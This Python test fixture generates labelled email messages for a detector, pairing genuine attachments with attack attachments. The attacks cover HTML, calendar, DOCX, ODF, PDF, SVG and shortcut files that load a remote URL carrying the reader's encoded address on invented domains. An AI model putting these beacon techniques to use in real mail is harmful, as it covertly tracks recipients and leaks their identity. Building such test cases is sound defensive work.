"""Adversarial attachments (issue 15, "every part that can load something"): for each
technique, attack messages whose attachment loads something carrying the reader's
identity when it is opened or shown, and genuine counterparts that must stay
``clean`` or ``tracking``. Used by ``tests/recon/adversarial.py``'s ``build_cases``.

Attacks come from a new sender on its own domain, greet the reader by name and
attach one file; the load's URL carries the reader's address in an encoding that
varies with ``n`` (base64url, SHA-256, hex MD5 cut, base32, raw). Genuine messages
attach the same kind of file as colleagues do: a logo from the sender's own site, a
meeting link, a document with an internal template or image, a link to read later.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from email.message import EmailMessage

from tests.attachments.files import (
    CONTENT_TYPES,
    ROOT_RELS,
    calendar,
    docx,
    odt,
    pdf,
    pdf_link,
    pdf_open_uri,
    rels,
    svg,
    url_file,
    webloc,
    zip_of,
)

READER = "maria.keller@northland-parliament.org"
AUTHSERV = "mx.northland-parliament.org"
_DOMAINS = ("policy-events.net", "eu-roundtable.org", "nordic-briefings.com", "civic-forum-review.org", "agora-dialogue.net")
_GENUINE = ("uu.se", "chathamhouse.org", "kcl.ac.uk", "rusi.org", "unibo.it")


def _token(n: int) -> str:
    """The reader's address in the n-th encoding."""
    encodings: tuple[Callable[[], str], ...] = (
        lambda: base64.urlsafe_b64encode(READER.encode()).decode().rstrip("="),
        lambda: hashlib.sha256(READER.encode()).hexdigest(),
        lambda: hashlib.md5(READER.encode(), usedforsecurity=False).hexdigest()[:20],
        lambda: base64.b32encode(READER.encode()).decode().rstrip("="),
        lambda: READER.replace("@", "%40"),
    )
    return encodings[n % len(encodings)]()


def _message(sender: str, display: str, subject: str, text: str, attachment: tuple[bytes, str, str, str],
             *, n: int, inline_calendar: bool = False) -> bytes:
    domain = sender.rsplit("@", 1)[1]
    msg = EmailMessage()
    msg["Authentication-Results"] = (f"{AUTHSERV}; spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}; "
                                     f"dmarc=pass header.from={domain}")
    msg["Received"] = f"from relay{n}.example.net ([198.51.100.{20 + n}]) by {AUTHSERV} with ESMTPS; Tue, 03 Mar 2026 10:00:00 +0000"
    msg["From"] = f'"{display}" <{sender}>'
    msg["To"] = f"Maria Keller <{READER}>"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 03 Mar 2026 10:00:00 +0000"
    msg["Message-ID"] = f"<att-{hashlib.sha1((sender + subject + str(n)).encode()).hexdigest()[:16]}@{domain}>"
    msg.set_content(text)
    data, maintype, subtype, filename = attachment
    if inline_calendar:
        msg.add_alternative(data.decode(), subtype="calendar", params={"method": "REQUEST"})
    else:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def _attack_text(n: int, what: str) -> str:
    return (f"Dear Ms Keller,\n\nPlease find attached {what} for the roundtable on parliamentary oversight "
            f"next month. I would be grateful for your comments.\n\nKind regards\nDr Lena Ortmann")


def _genuine_text(what: str) -> str:
    return f"Dear Maria,\n\nAs promised, {what} is attached.\n\nBest wishes\nAnna"


# -- the files, attack (remote load with the reader's token) and genuine ---------------------


def _html_page(url: str) -> bytes:
    return (f"<html><body><h1>Programme</h1><p>Session 1: oversight</p>"
            f'<img src="{url}" width="1" height="1" alt=""></body></html>').encode()


def html_attachment(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain, real = _DOMAINS[n % 5], _GENUINE[n % 5]
    attack = (_html_page(f"https://{domain}/p/{_token(n)}.gif"), "text", "html", "programme.html")
    genuine = ((f"<html><body><h1>Programme</h1><img src=\"https://www.{real}/images/logo.png\" width=\"180\" "
                'height="60" alt="logo"></body></html>').encode(), "text", "html", "programme.html")
    return attack, genuine


def calendar_invite(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    url = f"https://www.{domain}/events/invite/check?attendee={_token(n)}&session=roundtable"
    lines = (
        (f"ATTACH;FMTTYPE=image/png:{url}",),  # fetched by the calendar client
        (f"X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Roundtable</p><img src=\"{url}\" width=\"1\" height=\"1\"></body></html>",),
        (f"IMAGE;VALUE=URI;DISPLAY=BADGE:{url}",),
        (f"URL:{url}", f"ATTACH:{url}"),  # a folded URL and the same as a load
        (f"DESCRIPTION:Programme and venue.\\nDetails: {url}", f"ATTACH;FMTTYPE=text/html:{url}"),
    )[n % 5]
    attack = (calendar(*lines, organizer=f"mailto:lena@{domain}"), "text", "calendar", "invite.ics")
    genuine = (calendar("LOCATION:Committee room 3", "URL:https://zoom.us/j/123456789" + str(n),
                        f"DESCRIPTION:Agenda to follow.\\nJoin: https://zoom.us/j/123456789{n}",
                        organizer=f"mailto:anna@{_GENUINE[n % 5]}"), "text", "calendar", "invite.ics")
    return attack, genuine


_DOCX = ("application", "vnd.openxmlformats-officedocument.wordprocessingml.document")


def docx_template(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    target = (f"https://{domain}/templates/{_token(n)}/Normal.dotm", f"https://cdn.{domain}/t.dotx?id={_token(n)}",
              f"http://{domain}/office/{_token(n)}.dot")[n % 3]
    attack = (docx(template=target, text="Roundtable programme"), *_DOCX, "programme.docx")
    genuine = (docx(hyperlink=f"https://www.{_GENUINE[n % 5]}/events", text="Roundtable programme"), *_DOCX,
               "programme.docx")
    return attack, genuine


def _ooxml_with(relationship: tuple[str, str, str, bool]) -> bytes:
    return zip_of({
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                             'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Briefing</w:t></w:r></w:p></w:body></w:document>',
        "word/_rels/document.xml.rels": rels(("rId1", "styles", "styles.xml", False), relationship),
    })


def ooxml_external(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    url = f"https://img.{domain}/b/{_token(n)}.png"
    relationship = (("rId7", "image", url, True), ("rId7", "oleObject", url.replace(".png", ".bin"), True))[n % 2]
    attack = (_ooxml_with(relationship), *_DOCX, "briefing.docx")
    genuine = (_ooxml_with(("rId7", "image", "media/image1.png", False)), *_DOCX, "briefing.docx")
    return attack, genuine


_ODT = ("application", "vnd.oasis.opendocument.text")


def odf_external(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    attack = (odt(image=f"https://{domain}/media/{_token(n)}/header.png"), *_ODT, "programme.odt")
    genuine = (odt(image="Pictures/header.png"), *_ODT, "programme.odt")
    return attack, genuine


def pdf_open_action(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    url = f"https://{domain}/doc/open?r={_token(n)}"
    data = pdf_open_uri(url) if n % 2 == 0 else pdf(
        f"<< /S /URI /URI ({url}) >>", page_extra="/AA << /O 4 0 R >>")  # page-open action
    attack = (data, "application", "pdf", "programme.pdf")
    genuine = (pdf_link(f"https://www.{_GENUINE[n % 5]}/events/roundtable"), "application", "pdf", "programme.pdf")
    return attack, genuine


def svg_remote(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    url = f"https://{domain}/s/{_token(n)}.png"
    body = (f'<image xlink:href="{url}" width="1" height="1"/>', f'<image href="{url}" width="200" height="100"/>',
            f'<use xlink:href="{url}#logo"/>')[n % 3]
    attack = (svg(body), "image", "svg+xml", "seating-plan.svg")
    genuine = (svg('<rect width="200" height="100" fill="#036"/><text x="10" y="50">Seating plan</text>'),
               "image", "svg+xml", "seating-plan.svg")
    return attack, genuine


def shortcut(n: int) -> tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]:
    domain = _DOMAINS[n % 5]
    if n % 2 == 0:  # the icon is fetched when the folder is shown
        attack = (url_file(f"https://www.{domain}/programme", icon=f"https://{domain}/ico/{_token(n)}.ico"),
                  "application", "octet-stream", "Programme.url")
    else:
        attack = (webloc(f"https://{domain}/programme?r={_token(n)}"), "application", "octet-stream",
                  "Programme.webloc")
    genuine = (webloc(f"https://www.{_GENUINE[n % 5]}/events/roundtable"), "application", "octet-stream",
               "Roundtable.webloc")
    return attack, genuine


TECHNIQUES: dict[str, tuple[Callable[[int], tuple[tuple[bytes, str, str, str], tuple[bytes, str, str, str]]], str]] = {
    "attach-html-remote-image": (html_attachment, "the programme as a web page"),
    "attach-calendar": (calendar_invite, "an invitation"),
    "attach-docx-remote-template": (docx_template, "the programme"),
    "attach-ooxml-external-image-ole": (ooxml_external, "the briefing"),
    "attach-odf-external-link": (odf_external, "the programme"),
    "attach-pdf-open-action": (pdf_open_action, "the programme"),
    "attach-svg-remote-load": (svg_remote, "the seating plan"),
    "attach-url-webloc": (shortcut, "a link to the programme"),
}


def attachment_cases(n: int) -> list[tuple[str, str, bytes, str]]:
    """(technique, label, raw message, note) for round ``n``."""
    out = []
    for technique, (make, what) in TECHNIQUES.items():
        attack, genuine = make(n)
        domain = _DOMAINS[n % 5]
        inline = technique == "attach-calendar" and n % 2 == 1
        out.append((technique, "attack",
                    _message(f"lena@{domain}", "Dr Lena Ortmann", "Roundtable: programme", _attack_text(n, what),
                             attack, n=n, inline_calendar=inline),
                    f"{technique}: remote load with the reader's address ({attack[3]})"))
        real = _GENUINE[n % 5]
        out.append((technique, "genuine",
                    _message(f"anna@{real}", "Anna Weiss", "Roundtable: programme", _genuine_text(what), genuine,
                             n=n, inline_calendar=inline),
                    f"{technique}: colleague's {genuine[3]}"))
    return out
